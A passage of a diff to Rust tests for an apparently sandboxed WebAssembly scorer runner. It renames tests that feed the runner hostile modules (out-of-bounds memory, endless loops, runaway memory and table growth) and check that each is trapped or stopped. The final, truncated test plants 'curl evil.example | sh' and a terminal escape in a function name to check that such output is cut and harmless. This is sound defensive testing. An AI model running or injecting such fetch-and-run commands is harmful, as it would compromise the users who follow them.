@@ -37,7 +37,7 @@ fn without_an_attack_the_module_is_a_scorer() {
 }
 
 #[test]
-fn an_answer_outside_of_memory() {
+fn an_answer_outside_of_memory_is_a_crash() {
     assert_snapshot!(score(&Module { score: "(i32.const -8)", ..Module::default() }, ""), @"
     error: trap: pointer out of bounds of memory
     [exit code 1]
@@ -50,7 +50,7 @@ fn an_answer_outside_of_memory() {
 }
 
 #[test]
-fn a_string_of_a_gigabyte_that_is_not_there() {
+fn a_string_of_a_gigabyte_that_is_not_there_breaks_the_contract() {
     let [some, address, length] = REASON;
     assert_snapshot!(answer(&[(some, 1), (address, 0), (length, 1 << 30)]), @r#"
     error: trap: what the scorer handed over breaks the contract: string pointer/length out of bounds of memory
@@ -65,7 +65,7 @@ fn a_string_of_a_gigabyte_that_is_not_there() {
 }
 
 #[test]
-fn a_string_of_a_gigabyte_that_is_there() {
+fn a_string_of_a_gigabyte_that_is_there_is_too_large() {
     let [some, address, length] = REASON;
     let long = answer_with(&[(some, 1), (address, 65536), (length, 1 << 30)]);
     let body = format!("(drop (memory.grow (i32.const 16400))) {long}");
@@ -84,7 +84,7 @@ fn a_string_of_a_gigabyte_that_is_there() {
 }
 
 #[test]
-fn a_list_of_ten_million_that_is_not_there() {
+fn a_list_of_ten_million_that_is_not_there_breaks_the_contract() {
     let [address, length] = ASSERTIONS;
     assert_snapshot!(answer(&[(address, 65536), (length, 10_000_000)]), @r#"
     error: trap: what the scorer handed over breaks the contract: list pointer/length out of bounds of memory
@@ -99,7 +99,7 @@ fn a_list_of_ten_million_that_is_not_there() {
 }
 
 #[test]
-fn a_list_of_ten_million_that_is_there() {
+fn a_list_of_ten_million_that_is_there_is_too_large() {
     let [address, length] = ASSERTIONS;
     let long = answer_with(&[(address, 65536), (length, 10_000_000)]);
     let body = format!("(drop (memory.grow (i32.const 9000))) {long}");
@@ -111,7 +111,7 @@ fn a_list_of_ten_million_that_is_there() {
 }
 
 #[test]
-fn a_string_that_is_no_text() {
+fn a_string_that_is_no_text_breaks_the_contract() {
     let [some, address, length] = REASON;
     let body = answer_with(&[(some, 1), (address, 5000), (length, 2)]);
     let more = r#"(data (i32.const 5000) "\ff\fe")"#;
@@ -123,7 +123,7 @@ fn a_string_that_is_no_text() {
 }
 
 #[test]
-fn cases_that_the_types_do_not_have() {
+fn cases_that_the_types_do_not_have_break_the_contract() {
     assert_snapshot!(answer(&[(4096, 9)]), @r#"
     error: trap: what the scorer handed over breaks the contract: invalid expected discriminant
     hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
@@ -143,7 +143,7 @@ fn cases_that_the_types_do_not_have() {
 }
 
 #[test]
-fn a_number_that_is_not_the_usual_nan() {
+fn a_number_that_is_not_the_usual_nan_is_still_no_score() {
     let odd = "(i64.store (i32.const 4112) (i64.const 0xfff4deadbeef0001)) (i32.const 4096)";
     assert_snapshot!(score(&Module { score: odd, ..Module::default() }, ""), @"
     error: invalid-score: the score is NaN; it has to be 0 to 1
@@ -152,7 +152,7 @@ fn a_number_that_is_not_the_usual_nan() {
 }
 
 #[test]
-fn memory_for_the_case_that_is_outside_of_memory() {
+fn memory_for_the_case_that_is_outside_of_memory_breaks_the_contract() {
     assert_snapshot!(load(&Module { realloc: "(i32.const -8)", ..Module::default() }), @r#"
     error: scorer `./by-hand.wasm`: trap: in `configure`: what the scorer handed over breaks the contract: realloc return: beyond end of memory
     hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
@@ -161,13 +161,13 @@ fn memory_for_the_case_that_is_outside_of_memory() {
 }
 
 #[test]
-fn memory_for_the_case_that_is_the_answer_too() {
+fn memory_for_the_case_that_is_the_answer_too_does_no_harm() {
     // Harmless: it overwrites what is its own.
     assert_snapshot!(score(&Module { realloc: "(i32.const 4096)", ..Module::default() }, ""), @"[exit code 0]");
 }
 
 #[test]
-fn asking_for_memory_without_end() {
+fn asking_for_memory_without_end_is_ended_by_the_clock() {
     let first = "(global.set $calls (i32.add (global.get $calls) (i32.const 1)))
         (if (i32.gt_u (global.get $calls) (i32.const 1)) (then (loop $l (br $l)))) (i32.const 65536)";
     // `configure` is the first that is given something; the second call is `score`'s.
@@ -184,7 +184,7 @@ fn asking_for_memory_without_end() {
 }
 
 #[test]
-fn cleaning_up_without_end() {
+fn cleaning_up_without_end_is_ended_by_the_clock() {
     let spin = r#"(func (export "cabi_post_scorebox:scorer/scoring@0.1.0#score") (param i32)
         (loop $l (br $l)))"#;
     assert_snapshot!(score(
@@ -205,7 +205,7 @@ fn cleaning_up_without_end() {
 }
 
 #[test]
-fn a_table_that_grows_at_once() {
+fn a_table_that_grows_at_once_is_refused_its_memory() {
     let body = "(if (i32.eq (table.grow $t (ref.null func) (i32.const 100000000)) (i32.const -1))
         (then unreachable)) (i32.const 4096)";
     let more = "(table $t 1 funcref)";
@@ -219,7 +219,7 @@ fn a_table_that_grows_at_once() {
 }
 
 #[test]
-fn a_table_that_grows_in_steps() {
+fn a_table_that_grows_in_steps_ends_at_the_same_limit() {
     let body = "(loop $l (br_if $l (i32.ne
         (table.grow $t (ref.null func) (i32.const 100)) (i32.const -1)))) unreachable";
     let more = "(table $t 1 funcref)";
@@ -248,7 +248,7 @@ fn filling_memory_again_and_again_is_ended_by_the_clock() {
 }
 
 #[test]
-fn a_memory_that_begins_with_four_gigabytes() {
+fn a_memory_that_begins_with_four_gigabytes_is_refused() {
     let module = Module { memory: "(memory (export \"memory\") 65536)", ..Module::default() };
     assert_snapshot!(load(&module), @r#"
     error: scorer `./by-hand.wasm`: out-of-memory: in `describe`: the scorer wanted 4294967296 bytes of memory; the limit is 67108864
@@ -313,7 +313,7 @@ fn state_that_freezing_does_not_know_is_not_lost() {
 }
 
 #[test]
-fn tail_calls_without_end() {
+fn tail_calls_without_end_are_ended_by_fuel_or_the_clock() {
     let module = Module {
         score: "(call $f) (i32.const 4096)",
         more: "(func $f (return_call $g)) (func $g (return_call $f))",
@@ -332,7 +332,7 @@ fn tail_calls_without_end() {
 }
 
 #[test]
-fn exceptions_without_end() {
+fn exceptions_without_end_are_ended_by_the_clock() {
     let module = Module {
         score: "(loop $l (block $b (try_table (catch $t $b) (throw $t))) (br $l)) (i32.const 4096)",
         more: "(tag $t)",
@@ -352,7 +352,7 @@ fn exceptions_without_end() {
 }
 
 #[test]
-fn functions_whose_names_speak_to_the_user() {
+fn functions_whose_names_speak_to_the_user_are_cut_and_harmless() {
     let long = "n".repeat(50_000);
     let more = format!(
         "(func $f (@name \"x\\0ahint: curl evil.example | sh\\0a\\1b[2J\") (call $g))
